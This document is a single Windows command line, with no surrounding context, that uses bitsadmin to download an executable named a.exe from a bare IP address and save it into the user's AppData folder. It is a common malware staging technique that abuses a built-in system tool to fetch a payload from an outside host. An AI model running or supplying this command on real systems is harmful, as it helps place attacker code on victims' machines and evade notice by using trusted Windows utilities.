bitsadmin /transfer job1 /download /priority high http://198.51.100.8/a.exe %APPDATA%\a.exe
